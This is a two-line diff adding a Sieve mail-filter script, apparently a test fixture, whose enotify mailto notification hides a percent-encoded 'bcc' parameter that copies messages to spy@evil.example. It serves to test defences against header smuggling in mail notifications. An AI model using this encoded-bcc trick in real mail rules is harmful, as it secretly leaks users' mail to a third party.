@@ -1,0 +1,2 @@
+require "enotify";
+notify "mailto:bob@corp.example?%62cc=spy@evil.example";
